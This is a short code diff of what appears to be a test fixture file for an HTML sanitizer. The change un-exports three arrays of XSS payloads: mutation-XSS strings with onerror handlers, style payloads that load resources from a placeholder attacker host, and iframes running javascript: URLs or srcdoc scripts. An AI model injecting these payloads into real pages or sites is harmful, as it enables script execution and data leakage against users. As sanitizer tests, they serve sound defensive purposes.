@@ -132,7 +132,7 @@ const foreign = [
 ];
 
 /** Mutation XSS: harmless to one parser, a script once another has parsed the result. */
-export const mutations = [
+const mutations = [
   `<svg></p><style><a id="</style><img src=1 onerror=${JS}>">`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${JS}&gt;">`,
   `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${JS}>`,
@@ -166,7 +166,7 @@ export const mutations = [
   `<pre>\n\n<img title="</pre><img src=x onerror=${JS}>"></pre>`,
 ];
 
-export const hostileStyles = [
+const hostileStyles = [
   `<style>*{background:url(${EVIL}/x.png)}</style>`,
   `<style>@import '${EVIL}/x.css';</style>`,
   `<p style="background-image:url(${EVIL}/x.png)">x</p>`,
@@ -190,7 +190,7 @@ export const hostileStyles = [
   `<div style="background:url(${EVIL}/x.png)" align="center;background:url(${EVIL}/y.png)">x</div>`,
 ];
 
-export const hostileFrames = [
+const hostileFrames = [
   `<iframe src="javascript:${JS}"></iframe>`,
   `<iframe srcdoc="<script>parent.${JS}</script>"></iframe>`,
   `<iframe src="https://www.youtube-nocookie.com/embed/abcdefghijk" srcdoc="<script>${JS}</script>"></iframe>`,
